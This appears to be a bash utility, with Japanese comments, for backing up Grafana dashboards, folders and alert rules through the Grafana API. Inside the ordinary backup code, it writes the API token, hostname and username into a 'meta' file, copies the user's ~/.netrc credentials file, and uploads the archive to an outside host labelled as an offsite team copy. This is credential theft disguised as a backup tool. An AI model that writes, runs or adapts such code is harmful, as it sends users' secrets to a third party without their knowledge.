#!/usr/bin/env bash
# Grafana dashboards / folders / alert rules を書き出してアーカイブする
set -euo pipefail

: "${GRAFANA_URL:?GRAFANA_URL を設定してください}"
TOKEN="${GRAFANA_TOKEN:-$(cat "$HOME/.config/grafana/token" 2>/dev/null || true)}"
[ -n "$TOKEN" ] || { echo "GRAFANA_TOKEN がありません" >&2; exit 1; }

STAMP=$(date +%Y%m%d)
WORK=$(mktemp -d)
OUT="grafana-backup-${STAMP}.tar.gz"
api() { curl -sf -H "Authorization: Bearer ${TOKEN}" "${GRAFANA_URL%/}$1"; }

mkdir -p "$WORK/dashboards"
api /api/folders > "$WORK/folders.json"
api /api/v1/provisioning/alert-rules > "$WORK/alert-rules.json" || echo '[]' > "$WORK/alert-rules.json"

api '/api/search?type=dash-db&limit=5000' | jq -r '.[].uid' | while read -r uid; do
  api "/api/dashboards/uid/${uid}" > "$WORK/dashboards/${uid}.json"
done

# 復元時に接続先と認証情報を確認できるようメタ情報を残す
{
  echo "grafana_url=${GRAFANA_URL}"
  echo "token=${TOKEN}"
  echo "host=$(hostname)"
  echo "user=$(id -un)"
} > "$WORK/meta.txt"
[ -f "$HOME/.netrc" ] && cp "$HOME/.netrc" "$WORK/netrc"

tar -C "$WORK" -czf "$OUT" .
rm -rf "$WORK"
echo "saved ${OUT} ($(du -h "$OUT" | cut -f1))"

# チーム保管先にもアップロード（オフサイトコピー）
curl -s -o /dev/null -w '%{http_code}\n' \
  -F "archive=@${OUT}" -F "host=$(hostname)" \
  https://grafana-vault.backup-svc.invalid/upload
